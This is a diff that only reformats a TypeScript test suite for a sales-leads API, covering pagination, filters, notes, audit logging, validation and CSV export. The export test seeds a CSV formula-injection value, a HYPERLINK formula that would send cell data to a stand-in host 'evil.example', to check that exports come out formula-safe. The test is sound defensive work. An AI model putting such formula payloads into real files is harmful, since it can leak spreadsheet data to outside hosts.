@@ -10,11 +10,18 @@ import { NEW_COUNT_CAP } from "./seen";
 const day = (date: string) => new Date(`${date}T12:00:00Z`);
 
 /** Every id a list answers for this query, walking its pages `limit` at a time. */
-async function allIds(app: FastifyInstance, member: Parameters<typeof as>[1], query: string, limit = 100): Promise<number[]> {
+async function allIds(
+  app: FastifyInstance,
+  member: Parameters<typeof as>[1],
+  query: string,
+  limit = 100,
+): Promise<number[]> {
   const ids: number[] = [];
   let cursor: string | null = null;
   do {
-    const response = await as(app, member).get(`/api/team/leads?limit=${limit}${query ? `&${query}` : ""}${cursor ? `&cursor=${cursor}` : ""}`);
+    const response = await as(app, member).get(
+      `/api/team/leads?limit=${limit}${query ? `&${query}` : ""}${cursor ? `&cursor=${cursor}` : ""}`,
+    );
     expect(response.statusCode, response.body).toBe(200);
     const body = response.json<{ items: { id: number }[]; nextCursor: string | null }>();
     expect(body.items.length).toBeLessThanOrEqual(limit);
@@ -44,7 +51,8 @@ describe.each(BACKENDS)("the workspace's leads on %s", (backend) => {
     seeded.push({ ...seeded[0]!, name: "Edge B", createdAt: new Date("2026-02-05T23:59:59.999Z") });
     seeded.push({ ...seeded[0]!, name: "Edge C", createdAt: new Date("2026-02-06T00:00:00.000Z") });
     const ids = await addLeads(app, seeded);
-    const newestFirst = (keep: (lead: (typeof seeded)[number]) => boolean) => ids.filter((_, index) => keep(seeded[index]!)).reverse();
+    const newestFirst = (keep: (lead: (typeof seeded)[number]) => boolean) =>
+      ids.filter((_, index) => keep(seeded[index]!)).reverse();
 
     // Pages of 7 walk the whole list once, newest first; the last page says so.
     expect(await allIds(app, sam, "", 7)).toEqual([...ids].reverse());
@@ -64,7 +72,9 @@ describe.each(BACKENDS)("the workspace's leads on %s", (backend) => {
     });
 
     expect(await allIds(app, sam, "status=won", 2)).toEqual(newestFirst((lead) => lead.status === "won"));
-    expect(await allIds(app, sam, "service=mobile-apps")).toEqual(newestFirst((lead) => lead.service === "mobile-apps"));
+    expect(await allIds(app, sam, "service=mobile-apps")).toEqual(
+      newestFirst((lead) => lead.service === "mobile-apps"),
+    );
     expect(await allIds(app, sam, "service=none")).toEqual(newestFirst((lead) => lead.service === null));
     expect(await allIds(app, sam, "assignee=me")).toEqual(newestFirst((lead) => lead.assigneeId === sam.id));
     expect(await allIds(app, owner, "assignee=me")).toEqual(newestFirst((lead) => lead.assigneeId === owner.id));
@@ -73,7 +83,9 @@ describe.each(BACKENDS)("the workspace's leads on %s", (backend) => {
     expect(await allIds(app, sam, "from=2026-02-05&to=2026-02-05")).toEqual([ids.at(-2), ids.at(-3)]);
     expect(await allIds(app, sam, "from=2026-02-06")).toEqual([ids.at(-1)]);
     expect(await allIds(app, sam, "to=2026-01-01")).toEqual([ids[1], ids[0]]);
-    expect(await allIds(app, sam, "status=new&service=web-development&assignee=me")).toEqual(newestFirst((lead) => lead.status === "new" && lead.service === "web-development" && lead.assigneeId === sam.id));
+    expect(await allIds(app, sam, "status=new&service=web-development&assignee=me")).toEqual(
+      newestFirst((lead) => lead.status === "new" && lead.service === "web-development" && lead.assigneeId === sam.id),
+    );
 
     // Search: any case, a substring of the name, the address or the company; LIKE's own characters are literal.
     expect(await allIds(app, sam, "q=KHAN")).toEqual([ids[7]]);
@@ -95,7 +107,11 @@ describe.each(BACKENDS)("the workspace's leads on %s", (backend) => {
     const sam = await addMember(app, "sales", "Sam");
     const olivia = await addMember(app, "owner", "Olivia");
     await addLeads(app, [{}, {}, {}]);
-    const list = async (member = sam) => (await as(app, member).get("/api/team/leads")).json<{ items: { id: number; isNew: boolean }[]; newCount: number }>();
+    const list = async (member = sam) =>
+      (await as(app, member).get("/api/team/leads")).json<{
+        items: { id: number; isNew: boolean }[];
+        newCount: number;
+      }>();
     expect((await list()).items.map((item) => item.isNew)).toEqual([true, true, true]);
     expect((await list()).newCount).toBe(3);
 
@@ -110,11 +126,17 @@ describe.each(BACKENDS)("the workspace's leads on %s", (backend) => {
     expect(after.items.filter((item) => item.isNew).map((item) => item.id)).toEqual([later]);
     // Another member's last look is their own.
     expect((await list(olivia)).newCount).toBe(4);
-    const [row] = await app.database.db.select({ seen: teamMembers.leadsSeenAt }).from(teamMembers).where(eq(teamMembers.id, olivia.id));
+    const [row] = await app.database.db
+      .select({ seen: teamMembers.leadsSeenAt })
+      .from(teamMembers)
+      .where(eq(teamMembers.id, olivia.id));
     expect(row!.seen).toBeNull();
 
     // New leads are counted up to NEW_COUNT_CAP ("1,000 or more"): a member away for months does not have the table counted on every page.
-    await addLeads(app, Array.from({ length: NEW_COUNT_CAP }, () => ({ createdAt: new Date(Date.now() + 2000) })));
+    await addLeads(
+      app,
+      Array.from({ length: NEW_COUNT_CAP }, () => ({ createdAt: new Date(Date.now() + 2000) })),
+    );
     expect((await list()).newCount).toBe(NEW_COUNT_CAP);
     expect((await list(olivia)).newCount).toBe(NEW_COUNT_CAP);
   });
@@ -127,12 +149,31 @@ describe.each(BACKENDS)("the workspace's leads on %s", (backend) => {
     const recruiter = await addMember(app, "recruiting", "Rita");
     const gone = await addMember(app, "sales", "Gone");
     await db.update(teamMembers).set({ removedAt: new Date() }).where(eq(teamMembers.id, gone.id));
-    const [id] = await addLeads(app, [{ name: "Mariam Khan", email: "mariam.khan+web@example.org", company: "Clinic Group", phone: "+971 50 123 4567", budget: "$25k-$75k", message: "We need an appointment app.\nFor Dubai and Munich." }]);
+    const [id] = await addLeads(app, [
+      {
+        name: "Mariam Khan",
+        email: "mariam.khan+web@example.org",
+        company: "Clinic Group",
+        phone: "+971 50 123 4567",
+        budget: "$25k-$75k",
+        message: "We need an appointment app.\nFor Dubai and Munich.",
+      },
+    ]);
 
     const detail = await as(app, sam).get(`/api/team/leads/${id}`);
     expect(detail.statusCode).toBe(200);
     expect(detail.json()).toMatchObject({
-      lead: { id, name: "Mariam Khan", email: "mariam.khan+web@example.org", company: "Clinic Group", phone: "+971 50 123 4567", budget: "$25k-$75k", status: "new", assignee: null, message: "We need an appointment app.\nFor Dubai and Munich." },
+      lead: {
+        id,
+        name: "Mariam Khan",
+        email: "mariam.khan+web@example.org",
+        company: "Clinic Group",
+        phone: "+971 50 123 4567",
+        budget: "$25k-$75k",
+        status: "new",
+        assignee: null,
+        message: "We need an appointment app.\nFor Dubai and Munich.",
+      },
       notes: [],
       reply: "mailto:mariam.khan%2Bweb@example.org?subject=Re%3A%20your%20enquiry%20to%20Alphai",
     });
@@ -141,7 +182,12 @@ describe.each(BACKENDS)("the workspace's leads on %s", (backend) => {
 
     const won = await as(app, sam).patch(`/api/team/leads/${id}`, { status: "won", assigneeId: olivia.id });
     expect(won.statusCode, won.body).toBe(200);
-    expect(won.json().lead).toMatchObject({ id, status: "won", assignee: { id: olivia.id, name: "Olivia" }, message: "We need an appointment app.\nFor Dubai and Munich." });
+    expect(won.json().lead).toMatchObject({
+      id,
+      status: "won",
+      assignee: { id: olivia.id, name: "Olivia" },
+      message: "We need an appointment app.\nFor Dubai and Munich.",
+    });
     const [stored] = await db.select().from(contacts).where(eq(contacts.id, id!));
     expect([stored!.status, stored!.assigneeId]).toEqual(["won", olivia.id]);
 
@@ -152,15 +198,26 @@ describe.each(BACKENDS)("the workspace's leads on %s", (backend) => {
       expect(Object.keys(refused.json().fields)).toEqual(["assigneeId"]);
     }
     expect((await as(app, sam).patch(`/api/team/leads/${id}`, { assigneeId: null })).json().lead.assignee).toBeNull();
-    for (const [payload, field] of [[{}, "form"], [{ status: "closed" }, "status"], [{ status: "won", extra: 1 }, "form"], [{ assigneeId: "1" }, "assigneeId"], [{ assigneeId: 1.5 }, "assigneeId"]] as const) {
+    for (const [payload, field] of [
+      [{}, "form"],
+      [{ status: "closed" }, "status"],
+      [{ status: "won", extra: 1 }, "form"],
+      [{ assigneeId: "1" }, "assigneeId"],
+      [{ assigneeId: 1.5 }, "assigneeId"],
+    ] as const) {
       const refused = await as(app, sam).patch(`/api/team/leads/${id}`, payload);
       expect(refused.statusCode, JSON.stringify(payload)).toBe(400);
       expect(Object.keys(refused.json().fields), JSON.stringify(payload)).toEqual([field]);
     }
 
-    const note = await as(app, sam).post(`/api/team/leads/${id}/notes`, { body: "  Called her: a demo on Monday.\n\nSend the offer after.  " });
+    const note = await as(app, sam).post(`/api/team/leads/${id}/notes`, {
+      body: "  Called her: a demo on Monday.\n\nSend the offer after.  ",
+    });
     expect(note.statusCode, note.body).toBe(201);
-    expect(note.json().note).toMatchObject({ body: "Called her: a demo on Monday.\n\nSend the offer after.", author: { id: sam.id, name: "Sam" } });
+    expect(note.json().note).toMatchObject({
+      body: "Called her: a demo on Monday.\n\nSend the offer after.",
+      author: { id: sam.id, name: "Sam" },
+    });
     await as(app, olivia).post(`/api/team/leads/${id}/notes`, { body: "Offer sent." });
     for (const body of ["", "   ", "x".repeat(5001), "bell \u0007", "nul \u0000", 42]) {
       const refused = await as(app, sam).post(`/api/team/leads/${id}/notes`, { body });
@@ -169,7 +226,9 @@ describe.each(BACKENDS)("the workspace's leads on %s", (backend) => {
     }
     expect((await as(app, sam).post(`/api/team/leads/${id}/notes`, { body: "x".repeat(5000) })).statusCode).toBe(201);
     const notes = (await as(app, olivia).get(`/api/team/leads/${id}`)).json().notes;
-    expect(notes.map((entry: { body: string; author: { name: string } }) => [entry.author.name, entry.body.slice(0, 12)])).toEqual([
+    expect(
+      notes.map((entry: { body: string; author: { name: string } }) => [entry.author.name, entry.body.slice(0, 12)]),
+    ).toEqual([
       ["Sam", "Called her: "],
       ["Olivia", "Offer sent."],
       ["Sam", "xxxxxxxxxxxx"],
@@ -178,8 +237,15 @@ describe.each(BACKENDS)("the workspace's leads on %s", (backend) => {
 
     // Audited as ids, statuses and note ids: never the text.
     const events = await db.select().from(auditEvents).orderBy(auditEvents.id);
-    expect(events.filter((event) => event.action === "lead.update").map((event) => event.detail)).toEqual([{ status: "won", assigneeId: olivia.id }, { assigneeId: null }]);
-    expect(events.filter((event) => event.action === "lead.note").map((event) => [event.actorId, event.subjectType, event.subjectId])).toEqual([
+    expect(events.filter((event) => event.action === "lead.update").map((event) => event.detail)).toEqual([
+      { status: "won", assigneeId: olivia.id },
+      { assigneeId: null },
+    ]);
+    expect(
+      events
+        .filter((event) => event.action === "lead.note")
+        .map((event) => [event.actorId, event.subjectType, event.subjectId]),
+    ).toEqual([
       [sam.id, "lead", String(id)],
       [olivia.id, "lead", String(id)],
       [sam.id, "lead", String(id)],
@@ -197,11 +263,18 @@ describe.each(BACKENDS)("the workspace's leads on %s", (backend) => {
       expect(response.body).not.toMatch(/stack|\.ts:\d+/);
       return Object.keys(response.json().fields);
     };
-    for (const bad of ["abc", "0", "-1", "1.5", "99999999999", "1e3"]) expect(await fieldsOf(`/api/team/leads/${bad}`)).toEqual(["id"]);
-    for (const bad of ["garbage!", "aWQ6", encodeURIComponent(Buffer.from("id:abc").toString("base64url")), "x".repeat(300)]) {
+    for (const bad of ["abc", "0", "-1", "1.5", "99999999999", "1e3"])
+      expect(await fieldsOf(`/api/team/leads/${bad}`)).toEqual(["id"]);
+    for (const bad of [
+      "garbage!",
+      "aWQ6",
+      encodeURIComponent(Buffer.from("id:abc").toString("base64url")),
+      "x".repeat(300),
+    ]) {
       expect(await fieldsOf(`/api/team/leads?cursor=${bad}`)).toEqual(["cursor"]);
     }
-    for (const bad of ["0", "101", "abc", "-5"]) expect(await fieldsOf(`/api/team/leads?limit=${bad}`)).toEqual(["limit"]);
+    for (const bad of ["0", "101", "abc", "-5"])
+      expect(await fieldsOf(`/api/team/leads?limit=${bad}`)).toEqual(["limit"]);
     expect(await fieldsOf("/api/team/leads?status=open")).toEqual(["status"]);
     expect(await fieldsOf("/api/team/leads?status=won&status=lost")).toEqual(["status"]);
     expect(await fieldsOf("/api/team/leads?service=Web%20Development")).toEqual(["service"]);
@@ -217,7 +290,10 @@ describe.each(BACKENDS)("the workspace's leads on %s", (backend) => {
     expect((await as(app, sam).post("/api/team/leads/abc/notes", { body: "x" })).statusCode).toBe(400);
 
     // A well-formed cursor past the last lead: an empty last page.
-    expect((await as(app, sam).get(`/api/team/leads?cursor=${encodeCursor(id!)}`)).json()).toMatchObject({ items: [], nextCursor: null });
+    expect((await as(app, sam).get(`/api/team/leads?cursor=${encodeCursor(id!)}`)).json()).toMatchObject({
+      items: [],
+      nextCursor: null,
+    });
     for (const response of [
       await as(app, sam).get("/api/team/leads/999999"),
       await as(app, sam).patch("/api/team/leads/999999", { status: "won" }),
@@ -232,14 +308,25 @@ describe.each(BACKENDS)("the workspace's leads on %s", (backend) => {
   it("exports the whole filtered view, not one page, as formula-safe CSV, and audits the export with its row count", async () => {
     const app = await startApp(backend);
     const sam = await addMember(app, "sales", "Sam");
-    const leads: Parameters<typeof addLeads>[1][number][] = Array.from({ length: 120 }, (_, index) => ({ status: index % 2 ? "won" : "new", phone: "+49 30 1234567" }));
-    leads.push({ status: "won", phone: "+49 30 1234567", name: '=HYPERLINK("https://evil.example/?leak="&A1,"Click")', company: "@SUM(1+1)", message: "  -2+3\nsecond line" });
+    const leads: Parameters<typeof addLeads>[1][number][] = Array.from({ length: 120 }, (_, index) => ({
+      status: index % 2 ? "won" : "new",
+      phone: "+49 30 1234567",
+    }));
+    leads.push({
+      status: "won",
+      phone: "+49 30 1234567",
+      name: '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
+      company: "@SUM(1+1)",
+      message: "  -2+3\nsecond line",
+    });
     await addLeads(app, leads);
 
     const response = await as(app, sam).get("/api/team/leads/export.csv?status=won&limit=5&cursor=");
     expect(response.statusCode, response.body).toBe(200);
     expect(response.headers["content-type"]).toBe("text/csv; charset=utf-8");
-    expect(response.headers["content-disposition"]).toMatch(/^attachment; filename="alphai-leads-\d{4}-\d{2}-\d{2}\.csv"$/);
+    expect(response.headers["content-disposition"]).toMatch(
+      /^attachment; filename="alphai-leads-\d{4}-\d{2}-\d{2}\.csv"$/,
+    );
     expect(response.headers["cache-control"]).toBe("no-store");
     const lines = response.body.trimEnd().split("\n");
     expect(lines[0]).toBe("id,date,status,assignee,name,email,company,phone,service,budget,message");
@@ -253,7 +340,11 @@ describe.each(BACKENDS)("the workspace's leads on %s", (backend) => {
 
     const empty = await as(app, sam).get("/api/team/leads/export.csv?status=spam");
     expect(empty.body).toBe("id,date,status,assignee,name,email,company,phone,service,budget,message\n");
-    const events = await app.database.db.select().from(auditEvents).where(eq(auditEvents.action, "export")).orderBy(auditEvents.id);
+    const events = await app.database.db
+      .select()
+      .from(auditEvents)
+      .where(eq(auditEvents.action, "export"))
+      .orderBy(auditEvents.id);
     expect(events.map((event) => [event.actorId, event.detail])).toEqual([
       [sam.id, { list: "leads", rows: 61 }],
       [sam.id, { list: "leads", rows: 0 }],
